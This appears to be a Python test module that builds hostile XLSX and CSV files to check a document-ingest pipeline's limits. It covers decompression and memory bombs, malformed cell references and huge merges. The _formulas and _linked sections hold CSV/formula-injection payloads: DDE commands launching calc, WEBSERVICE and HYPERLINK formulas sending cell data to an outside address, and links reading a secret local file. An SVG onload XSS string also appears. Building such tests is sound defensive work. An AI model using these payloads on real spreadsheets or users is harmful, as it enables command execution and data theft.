"""Workbooks and tables in text that are too much, or would do something."""

from collections.abc import Iterator

from tests.ingest.hostile.case import Hostile, Place, fixed
from tests.ingest.hostile.parts import changed, sparse_sheet, workbook
from tests.ingest.made_files import parts_of, xlsx_file, zip_file

_LIMIT = "more than 5,000,000 cells"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def sheets(place: Place) -> Iterator[Hostile]:
    """Yield the files."""
    yield Hostile("sparse.xlsx", lambda: sparse_sheet('"'), _LIMIT)
    yield Hostile("unseen.xlsx", lambda: sparse_sheet("'"), "more than")
    rows = "".join(f'<row r="{n}"/>' for n in range(1, 1_000_000))
    yield Hostile("rows.xlsx", lambda: workbook(rows), "no cell|unpacks", costly=True)
    odd = '<row r="1"><c r="ZZZZ99999999"><v>1</v></c></row>'
    yield Hostile("place.xlsx", lambda: workbook(odd), shown="S")
    minus = '<row r="-1"><c r="A-1" t="s"><v>99999999</v></c></row>'
    yield Hostile("string.xlsx", lambda: workbook(minus), "damaged|no cell")
    yield Hostile("repeated.xlsx", lambda: repeated(30), "many times as large")
    yield Hostile("shared.xlsx", lambda: repeated(3_000), "MB of memory|many times|took longer",
                  costly=True)  # fmt: skip
    yield Hostile("styles.xlsx", _styles, shown="shown", costly=True)
    merged = changed(
        xlsx_file({"S": [["shown"]]}),
        {"xl/worksheets/sheet1.xml": _merged()},
    )
    yield Hostile("merged.xlsx", fixed(merged), shown="S")
    for number, formula in enumerate(_formulas(place)):
        book = xlsx_file({"S": [["shown", formula]]})
        yield Hostile(f"formula-{number}.xlsx", fixed(book), shown="shown")
        quoted = formula.replace('"', '""')
        table = f'a,b\nshown,"{quoted}"\n'.encode()
        yield Hostile(f"formula-{number}.csv", fixed(table), shown="shown")
    yield from _linked(place)
    yield from _tables()


def repeated(count: int) -> bytes:
    """Return a workbook of this many cells with the same text of a megabyte."""
    parts = parts_of(xlsx_file({"S": [["a"]]}))
    parts["xl/sharedStrings.xml"] = (
        f'<sst xmlns="{_MAIN}"><si><t>{"x" * 1_000_000}</t></si></sst>'
    )
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>'
        for n in range(1, count + 1)
    )
    parts["xl/worksheets/sheet1.xml"] = (
        f'<worksheet xmlns="{_MAIN}"><sheetData>{cells}</sheetData></worksheet>'
    )
    return zip_file(parts)


def _formulas(place: Place) -> Iterator[str]:
    yield f'=WEBSERVICE("{place.address}")'
    yield "=cmd|' /C calc'!A0"
    yield f'=HYPERLINK("{place.address}?"&A1,"x")'
    yield f"='file://{place.secret}'#$Sheet1.A1"
    yield f'=IMPORTXML("{place.address}","//a")'
    yield "@SUM(1+1)*cmd|' /C calc'!A0"


def _styles() -> bytes:
    styles = f'<styleSheet xmlns="{_MAIN}"><cellXfs>{"<xf/>" * 1_000_000}</cellXfs></styleSheet>'
    return changed(xlsx_file({"S": [["shown"]]}), {"xl/styles.xml": styles})


def _merged() -> str:
    merges = '<mergeCell ref="A1:XFD1048576"/>' * 10_000
    return (
        f'<worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        f"</sheetData><mergeCells>{merges}</mergeCells></worksheet>"
    )


def _linked(place: Place) -> Iterator[Hostile]:
    book = xlsx_file({"S": [["shown"]]})
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/externalLinkPath" Target="{}" '
        'TargetMode="External"/></Relationships>'
    )
    for name, target in (("web", place.address), ("file", f"file://{place.secret}")):
        linked = {
            "xl/externalLinks/_rels/externalLink1.xml.rels": relation.format(target)
        }
        yield Hostile(
            f"linked-{name}.xlsx", fixed(changed(book, linked)), shown="shown"
        )


def _tables() -> Iterator[Hostile]:
    yield Hostile("quotes.csv", fixed(b'a,b\n"' + b"x\n" * 100_000), shown="x")
    yield Hostile("line.csv", lambda: b"a," * 6_000_000, shown="a,a", costly=True)
    yield Hostile("columns.csv", lambda: b"a," * 1_000_000 + b"\n", shown="a,a",
                  costly=True)  # fmt: skip
    yield Hostile("nul.csv", fixed(b"a,b\nsh\0own,2\n" * 100), shown="shown")
    yield Hostile("nuls.csv", fixed(bytes(100_000)), "binary data|no text")
    yield Hostile("empty.csv", fixed(b",\n" * 300_000), shown=",")
    yield Hostile("blank.csv", fixed(b"\n" * 1_000_000), "no text")
    yield Hostile("quote.tsv", fixed(b'"' * 1_000_000), shown='"')
    yield Hostile("returns.csv", fixed(b"a,b\rshown,2\r" * 1_000), shown="shown")
    yield Hostile("markup.csv", fixed(b"a,b\n<svg onload=alert(1)>,2\n"), shown="svg")
    marked = xlsx_file({"S": [["a", "<svg onload=alert(1)>"]]})
    yield Hostile("markup.xlsx", fixed(marked), shown="<svg onload=alert(1)>")
